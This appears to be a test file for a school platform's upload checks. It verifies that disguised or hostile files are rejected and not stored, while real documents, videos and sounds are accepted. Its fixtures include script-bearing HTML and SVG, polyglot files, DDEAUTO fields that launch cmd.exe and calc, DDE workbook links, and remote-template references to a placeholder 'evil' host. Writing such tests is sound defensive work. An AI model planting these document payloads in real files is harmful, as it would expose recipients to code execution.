/** Files that are not what they say: nothing of them is kept, and whoever sent them is told why. */
import { assignments } from "@ofisi/contract/academics/assignments";
import sharp from "sharp";
import { expect, it } from "vitest";
import { testApp } from "../../../test/app.ts";
import { aDocx, aPdf } from "../../../test/documents.ts";
import { aTeachingSchool, filesOf, handIn } from "../../../test/homework.ts";
import { anMp3, anMp4, anOldDocument } from "../../../test/media.ts";
import { zip } from "../../../test/workbook.ts";

const NONE =
  "This school does not take files of this kind. Use PDF, JPEG, PNG, Word (.docx), Excel (.xlsx), Word (.doc), Excel (.xls), MP4, MP3";
const VIDEO = "This video is damaged or cut off: what it says of its length is not so. Save it anew";
const SOUND = "This sound is damaged or no MP3 to its end. Save it anew";
const DOCUMENT = "This document cannot be opened: it is damaged, or asks for a password";
const PROGRAMS = "This document has programs (macros) in it. Save it as .docx or PDF without them";
const ELSEWHERE = "This document fetches something from elsewhere when it is opened. Save it as PDF";
const PDF = "This PDF cannot be opened: it is damaged, or asks for a password";
const PICTURE = "This picture is damaged or too large. Take it again, or save it anew";
const PNG = await sharp({ create: { width: 8, height: 8, channels: 3, background: "white" } })
  .png()
  .toBuffer();
const JPEG = await sharp(PNG).jpeg().toBuffer();
const PHOTO = await sharp({
  create: {
    width: 900,
    height: 700,
    channels: 3,
    background: "white",
    noise: { type: "gaussian", mean: 128, sigma: 30 },
  },
})
  .jpeg()
  .toBuffer();
const MIXED = "This file is of two kinds at once. Save it anew";
const HTML = Buffer.from("<html><script>alert(1)</script></html>");

const link = (type: string, target: string) => [
  {
    name: "word/_rels/document.xml.rels",
    content: `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
  },
];
/** The index that players read first points past the end; the one behind it is in order. */
function twoIndexes(): Buffer {
  const film = anMp4();
  const lying = anMp4({ at: 9_000_000 });
  const index = lying.subarray(lying.lastIndexOf("moov") - 4);
  const head = film.subarray(0, film.indexOf("mdat") - 4);
  return Buffer.concat([head, index, film.subarray(head.length)]);
}
const aWorkbook = (extra: { name: string; content: string }[] = []) =>
  zip([
    { name: "[Content_Types].xml", content: "<Types/>" },
    { name: "xl/workbook.xml", content: "<workbook/>" },
    ...extra,
  ]);

it.each([
  ["a page called .pdf", "a.pdf", HTML, NONE],
  ["a page that begins as a PDF", "a.pdf", Buffer.concat([Buffer.from("%PDF-1.7\n"), HTML]), PDF],
  ["a drawing with a script", "a.svg", Buffer.from("<svg><script>alert(1)</script></svg>"), NONE],
  ["a page behind a picture's first bytes", "a.jpg", Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), HTML]), PICTURE],
  ["a photo without its last lines", "a.jpg", PHOTO.subarray(0, -2_000), PICTURE],
  ["a program", "a.mp4", Buffer.from("MZ\u0090\u0000\u0003\u0000\u0000\u0000"), NONE],
  ["any archive", "a.docx", zip([{ name: "run.txt", content: "x" }]), NONE],
  [
    "a document with a template elsewhere",
    "a.docx",
    aDocx("x", link("attachedTemplate", "http://evil/x.dotm")),
    ELSEWHERE,
  ],
  ["a document with a picture elsewhere", "a.docx", aDocx("x", link("image", "http://evil/x.png")), ELSEWHERE],
  [
    "a document whose template's address closes what says that it is elsewhere",
    "a.docx",
    aDocx("x", link("attachedTemplate", "http://evil/a>b")),
    ELSEWHERE,
  ],
  [
    "a document whose template's address says that it is a link",
    "a.docx",
    aDocx("x", link("attachedTemplate", "http://evil/?Type='x/hyperlink'")),
    ELSEWHERE,
  ],
  [
    "a document that writes where its template is in another way",
    "a.docx",
    aDocx("x", [
      {
        ...link("image", "http://evil/x.png")[0]!,
        content: link("image", "http://evil/x.png")[0]!.content.replace("External", "&#69;xternal"),
      },
    ]),
    ELSEWHERE,
  ],
  [
    "a document that says in another alphabet what belongs to it",
    "a.docx",
    aDocx("x", [
      {
        ...link("image", "http://evil/x.png")[0]!,
        content: Buffer.from(link("image", "http://evil/x.png")[0]!.content, "utf16le"),
      },
    ]),
    DOCUMENT,
  ],
  [
    "a document with a command in a field",
    "a.docx",
    aDocx('x</w:t><w:instrText>DDEAUTO cmd.exe "/k calc"</w:instrText><w:t>'),
    PROGRAMS,
  ],
  [
    "a document with a command in a field, in two halves",
    "a.docx",
    aDocx("x</w:t><w:instrText>DDE</w:instrText><w:instrText>AUTO cmd</w:instrText><w:t>"),
    PROGRAMS,
  ],
  [
    "a document that fetches a picture by a field",
    "a.docx",
    aDocx('x</w:t><w:instrText> INCLUDEPICTURE "http://evil/x.png"</w:instrText><w:t>'),
    ELSEWHERE,
  ],
  [
    "a workbook with a command in a link",
    "a.xlsx",
    aWorkbook([
      {
        name: "xl/externalLinks/externalLink1.xml",
        content: "<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>",
      },
    ]),
    PROGRAMS,
  ],
  ["a workbook with programs", "a.xlsx", aWorkbook([{ name: "xl/vbaProject.bin", content: "x" }]), PROGRAMS],
  ["an old document with programs", "a.doc", anOldDocument("WordDocument", "_VBA_PROJECT"), PROGRAMS],
  ["an old document that asks for a password", "a.doc", anOldDocument("EncryptedPackage"), DOCUMENT],
  ["a cut old document", "a.xls", anOldDocument("Workbook").subarray(0, 700), DOCUMENT],
  [
    "a page behind an old document's first bytes",
    "a.doc",
    Buffer.concat([anOldDocument().subarray(0, 8), HTML]),
    DOCUMENT,
  ],
  ["a video that is cut off", "a.mp4", anMp4().subarray(0, 3_000), VIDEO],
  ["a video with a page behind its end", "a.mp4", Buffer.concat([anMp4(), HTML]), VIDEO],
  ["a video whose index points past its end", "a.mp4", anMp4({ at: 9_000_000 }), VIDEO],
  ["a video that says it is a month long", "a.mp4", anMp4({ seconds: 2_600_000 }), VIDEO],
  ["a page behind a video's first bytes", "a.mp4", Buffer.concat([anMp4().subarray(0, 20), HTML]), VIDEO],
  ["a video with two indexes, of which the first lies", "a.mp4", twoIndexes(), VIDEO],
  ["a video that says it is longer than what is in it", "a.mp4", anMp4({ seconds: 40_000, lasts: 3 }), VIDEO],
  ["a video whose pictures are more than the file", "a.mp4", anMp4({ lasts: 3, sizes: 900_000_000 }), VIDEO],
  ["a photo with a page behind its end", "a.png", Buffer.concat([PNG, HTML]), MIXED],
  ["a photo with a document behind its end", "a.png", Buffer.concat([PNG, aDocx("x")]), MIXED],
  ["a JPEG with a page behind its end", "a.jpg", Buffer.concat([JPEG, HTML, Buffer.from([0xff, 0xd9])]), MIXED],
  ["a PDF with a page before its last end", "a.pdf", Buffer.concat([aPdf(), HTML, Buffer.from("\n%%EOF\n")]), MIXED],
  ["a PDF with a page behind its end", "a.pdf", Buffer.concat([aPdf(), HTML]), MIXED],
  ["a PDF with a document behind its end", "a.pdf", Buffer.concat([aPdf(), aDocx("x")]), MIXED],
  ["a photo that is kept as videos are", "a.mp4", Buffer.from("\0\0\0\u0018ftypheic\0\0\0\0mif1heic", "latin1"), NONE],
  ["a page behind a sound's tag", "a.mp3", Buffer.concat([anMp3().subarray(0, 14), HTML]), SOUND],
  ["a sound with a page in it", "a.mp3", Buffer.concat([anMp3(), HTML, anMp3()]), SOUND],
  ["nothing", "a.pdf", Buffer.alloc(0), NONE],
])("refuses %s", async (_, name, contents, message) => {
  const { office, schoolCode, tryPublish } = await aTeachingSchool();
  expect(await tryPublish({}, { name, contents })).toMatchObject({ success: false, message });
  const tried = await office.try(assignments.testUpload, {}, { files: { file: { name, contents } } });
  expect(tried).toMatchObject({ success: false, message });
  expect(await office.call(assignments.getAssignments, {})).toEqual([]);
  expect(await filesOf(schoolCode)).toEqual([]);
});

it("refuses the same of a student, whose submission stays as it was", async () => {
  const { publish, aPupil, schoolCode } = await aTeachingSchool();
  const { assignmentCode } = await publish();
  const pupil = await aPupil();
  const { isEarlier: _, ...before } = (await handIn(pupil, assignmentCode)).value;
  const bad = await handIn(pupil, assignmentCode, { file: { name: "a.pdf", contents: HTML } });
  expect(bad).toMatchObject({ success: false, message: NONE, field: "fileToUpload" });
  expect(await pupil.call(assignments.getStudentSubmittedAssignments, {})).toEqual([before]);
  expect(await filesOf(schoolCode)).toHaveLength(2);
});

it.each([
  ["a PDF", "a.txt", aPdf(2), "application/pdf", 2],
  [
    "a document with a link that is pressed",
    "a.docx",
    aDocx("x", link("hyperlink", "https://example.org")),
    "wordprocessingml",
    0,
  ],
  ["a workbook", "a.xlsx", aWorkbook(), "spreadsheetml", 0],
  [
    "a document with a page's number in a field",
    "a.docx",
    aDocx("x</w:t><w:instrText> PAGE </w:instrText><w:t>"),
    "wordprocessingml",
    0,
  ],
  ["a photo with a short film behind it", "a.jpg", Buffer.concat([JPEG, anMp4()]), "image/jpeg", 1],
  ["a PDF that tells of pages", "a.pdf", aPdf(1, "%Ofisi\n(<html> and <script>)"), "application/pdf", 1],
  ["an old document", "a.doc", anOldDocument("WordDocument"), "application/msword", 0],
  ["an old workbook", "a.xls", anOldDocument("Workbook"), "application/vnd.ms-excel", 0],
  ["a video", "a.mp4", anMp4(), "video/mp4", 0],
  ["a video that says what is in it", "a.mp4", anMp4({ lasts: 3, sizes: 4_000 }), "video/mp4", 0],
  ["a sound", "a.mp3", anMp3(), "audio/mpeg", 0],
])("takes %s for what it is, and keeps nothing of a try", async (_, name, contents, contentType, pages) => {
  const { office, schoolCode, publish } = await aTeachingSchool();
  const known = await office.try(assignments.testUpload, {}, { files: { file: { name, contents } } });
  expect(known.value).toMatchObject({
    name,
    bytes: contents.length,
    pages,
    contentType: expect.stringContaining(contentType),
  });
  expect(await filesOf(schoolCode)).toEqual([]);
  const { contentType: kept, file } = await publish({}, { name, contents });
  expect(kept).toContain(contentType);
  const got = await office.get(`/api/assignments/files/${file}`);
  expect(got.rawPayload.equals(contents)).toBe(true);
});

it("refuses a document that is larger than documents may be, though videos may", async () => {
  const { tryPublish } = await aTeachingSchool();
  const { services } = await testApp();
  const contents = Buffer.concat([aPdf(), Buffer.alloc(services.settings.uploadBytesMax.document)]);
  expect((await tryPublish({}, { name: "a.pdf", contents })).message).toBe("The file is larger than 20 MB");
});
